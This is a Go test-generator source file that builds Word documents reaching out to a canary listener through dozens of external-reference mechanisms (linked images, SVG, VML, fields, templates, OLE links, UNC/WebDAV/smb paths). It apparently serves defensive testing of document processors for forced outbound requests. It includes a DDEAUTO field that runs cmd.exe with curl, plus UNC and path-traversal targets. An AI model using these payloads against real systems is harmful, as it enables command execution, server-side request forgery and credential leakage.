package hostile

import (
	"fmt"
	"strings"

	"xietong.dev/test/documents/parts"
)

// reference is a way by which a document leads elsewhere.
type reference struct {
	kind, extension string
	image           bool // what it leads to is shown as a picture
	make            func(target string) []byte
}

// references writes each reference to the listener, and those to pictures to
// every other place as well.
func (m *maker) references(all []reference) {
	for _, r := range all {
		kind := r.extension + " " + r.kind
		m.may(kind, r.extension, r.make(m.web(kind)))
		if !r.image {
			kind += ", of a file"
			m.may(kind, r.extension, r.make("file://"+m.canary+"/canary.html"))
			continue
		}
		for _, e := range m.elsewhere() {
			m.may(kind+", "+e.where, r.extension, r.make(e.target(Slug(m.group+" "+kind+", "+e.where)+".png")))
		}
	}
}

// elsewhere is a target that is no plain address of the listener.
type elsewhere struct {
	where  string
	target func(name string) string
}

func (m *maker) elsewhere() []elsewhere {
	before := func(address string) func(string) string {
		return func(name string) string { return address + name }
	}
	canary := func(address string) func(string) string {
		return func(string) string { return address + "/canary.png" }
	}
	return []elsewhere{
		{"of a file", canary("file://" + m.canary)},
		{"of a file, by path", canary(m.canary)},
		{"of a file, upwards", canary(strings.Repeat("../", 20) + strings.TrimPrefix(m.canary, "/"))},
		{"of a share", before(`\\127.0.0.1\share\`)},
		{"of a share, by URL", before("file://127.0.0.1/share/")},
		{"of WebDAV", before(`\\` + strings.Replace(m.listener, ":", "@", 1) + `\share\`)},
		{"by ftp", before("ftp://" + m.listener + "/")},
		{"by smb", before("smb://" + m.listener + "/")},
		{"by webdav", before("vnd.sun.star.webdav://" + m.listener + "/")},
	}
}

// wordReference is a text document that fill leads elsewhere.
func wordReference(kind string, image bool, fill func(w *parts.Word, target string)) reference {
	return reference{kind, "docx", image, func(target string) []byte {
		w := simpleWord()
		fill(w, target)
		return w.Bytes()
	}}
}

// byField leads elsewhere by a field.
func byField(kind, format string) reference {
	return wordReference(kind, strings.Contains(format, "PICTURE"), func(w *parts.Word, target string) {
		w.Add(parts.P("", parts.Field(fmt.Sprintf(format, strings.ReplaceAll(target, `\`, `\\`)), "旧值")))
	})
}

// byRelation leads elsewhere by a relation, and XML that uses its id.
func byRelation(kind, relation, format string) reference {
	return wordReference(kind, strings.Contains(kind, "picture"), func(w *parts.Word, target string) {
		id := w.RelatesExternal(relation, target)
		w.Add(fmt.Sprintf(format, id))
	})
}

// bySettings leads elsewhere from the settings' part.
func bySettings(kind, relation, format string) reference {
	return wordReference(kind, false, func(w *parts.Word, target string) {
		w.Settings = fmt.Sprintf(format, w.RelateExternal("word/settings.xml", relation, target))
	})
}

func (m *maker) wordReferences() {
	m.references([]reference{
		wordReference("linked picture", true, func(w *parts.Word, target string) {
			w.Add(parts.P("", w.Shown(fmt.Sprintf(`r:link="%s"`, w.RelatesExternal("image", target)), 60, 60)))
		}),
		wordReference("embedded picture that lies elsewhere", true, func(w *parts.Word, target string) {
			w.Add(parts.P("", w.Shown(fmt.Sprintf(`r:embed="%s"`, w.RelatesExternal("image", target)), 60, 60)))
		}),
		wordReference("svg picture that lies elsewhere", true, func(w *parts.Word, target string) {
			data := parts.PNG(parts.Drawing(20, 20, 3))
			w.Add(parts.P("", strings.Replace(w.Image("png", data, 60, 60), `/><a:stretch>`, `><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><asvg:svgBlip xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:link="`+w.RelatesExternal("image", target)+`"/></a:ext></a:extLst></a:blip><a:stretch>`, 1)))
		}),
		wordReference("svg inside that shows a picture", true, func(w *parts.Word, target string) {
			w.Add(parts.P("", w.Image("svg", svgImage(target), 60, 60)))
		}),
		byRelation("vml picture", "image", `<w:p><w:r><w:pict><v:shape style="width:100pt;height:100pt"><v:imagedata r:id="%s"/></v:shape></w:pict></w:r></w:p>`),
		byRelation("vml picture by href", "image", `<w:p><w:r><w:pict><v:shape style="width:100pt;height:100pt"><v:imagedata r:href="%s"/></v:shape></w:pict></w:r></w:p>`),
		byRelation("vml fill", "image", `<w:p><w:r><w:pict><v:rect style="width:100pt;height:100pt"><v:fill type="frame" r:id="%s"/></v:rect></w:pict></w:r></w:p>`),
		wordReference("vml source", false, func(w *parts.Word, target string) {
			w.Add(`<w:p><w:r><w:pict><v:shape style="width:100pt;height:100pt"><v:imagedata src="` + parts.Escape(target) + `"/></v:shape></w:pict></w:r></w:p>`)
		}),
		byRelation("page background", "image", `<w:background w:color="FFFFFF"><v:background><v:fill type="frame" r:id="%s"/></v:background></w:background>`),
		byField("INCLUDEPICTURE", `INCLUDEPICTURE "%s" \d \* MERGEFORMAT`), byField("INCLUDETEXT", `INCLUDETEXT "%s"`), byField("IMPORT", `IMPORT "%s"`),
		byField("DDEAUTO", `DDEAUTO c:\\windows\\system32\\cmd.exe "/k curl %s"`), byField("DDE", `DDE excel "%s" R1C1`), byField("LINK", `LINK Excel.Sheet.12 "%s" R1C1 \a \f 0`),
		byField("RD", `RD "%s"`), byField("DATABASE", `DATABASE \d "%s" \c "DSN=a"`), byField("HYPERLINK", `HYPERLINK "%s"`),
		bySettings("template", "attachedTemplate", `<w:attachedTemplate r:id="%s"/>`), bySettings("mail merge source", "mailMergeSource", `<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataType w:val="textFile"/><w:dataSource r:id="%s"/></w:mailMerge>`),
		bySettings("transformation when saved", "transform", `<w:saveThroughXslt r:id="%s"/>`),
		byRelation("subdocument", "subDocument", `<w:subDoc r:id="%s"/>`), byRelation("alternative chunk", "aFChunk", `<w:altChunk r:id="%s"/>`),
		byRelation("linked object", "oleObject", `<w:p><w:r><w:object><v:shape id="s1" style="width:90pt;height:60pt"/><o:OLEObject Type="Link" ProgID="Word.Document.12" ShapeID="s1" DrawAspect="Content" r:id="%s" UpdateMode="Always"/></w:object></w:r></w:p>`),
		byRelation("control", "control", `<w:p><w:r><w:object><w:control r:id="%s" w:name="a" w:shapeid="s1"/></w:object></w:r></w:p>`),
		byRelation("header that lies elsewhere", "header", `<w:p><w:pPr><w:sectPr><w:headerReference w:type="default" r:id="%s"/></w:sectPr></w:pPr></w:p>`),
		byRelation("chart that lies elsewhere", "chart", `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="3000000" cy="2000000"/><wp:docPr id="1" name="a"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart"><c:chart xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" r:id="%s"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`),
		byRelation("link clicked by hovering", "hyperlink", `<w:p><w:r><w:drawing><wp:inline><wp:extent cx="1" cy="1"/><wp:docPr id="1" name="a"><a:hlinkHover r:id="%s"/></wp:docPr></wp:inline></w:drawing></w:r></w:p>`),
		byRelation("styles that lie elsewhere", "styles", `<!--%s-->`), byRelation("theme that lies elsewhere", "theme", `<!--%s-->`), byRelation("font table that lies elsewhere", "fontTable", `<!--%s-->`),
		wordReference("page inside", false, func(w *parts.Word, target string) {
			w.Add(chunk(w, "html", "text/html", `<html><body><img src="`+target+`"><iframe src="`+target+`"></iframe></body></html>`))
		}),
		wordReference("rich text inside", false, func(w *parts.Word, target string) {
			w.Add(chunk(w, "rtf", "application/rtf", `{\rtf1{\field{\*\fldinst INCLUDEPICTURE "`+target+`" \\d}}}`))
		}),
		wordReference("frame set", false, func(w *parts.Word, target string) {
			id := w.RelateExternal("word/webSettings.xml", "frame", target)
			w.AddXML("word/webSettings.xml", parts.OfficeXML+"wordprocessingml.webSettings+xml", `<w:webSettings `+parts.WordXML+`><w:frameset><w:frame><w:sourceFileName r:id="`+id+`"/></w:frame></w:frameset></w:webSettings>`)
			w.Relates("webSettings", "webSettings.xml")
		}),
		wordReference("workbook behind a chart", false, func(w *parts.Word, target string) {
			c := parts.Chart{Kind: "bar", Title: "图", Categories: []string{"甲"}, Series: []parts.Series{{Name: "乙", Values: []float64{1}}}}
			w.Add(parts.P("", w.Chart(c, 90, 60)))
			last := &w.Parts[len(w.Parts)-1]
			id := w.RelateExternal(last.Name, "oleObject", target)
			last.Data = []byte(strings.Replace(string(last.Data), `</c:chartSpace>`, `<c:externalData r:id="`+id+`"><c:autoUpdate val="1"/></c:externalData></c:chartSpace>`, 1))
		}),
	})
}

// chunk puts a document of another format into a text document.
func chunk(w *parts.Word, extension, kind, text string) string {
	w.Package.Add("word/chunk."+extension, kind, []byte(text))
	return `<w:altChunk r:id="` + w.Relates("aFChunk", "chunk."+extension) + `"/>`
}

func svgImage(target string) []byte {
	return []byte(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100"><image width="100" height="100" xlink:href="` + parts.Escape(target) + `" href="` + parts.Escape(target) + `"/></svg>`)
}
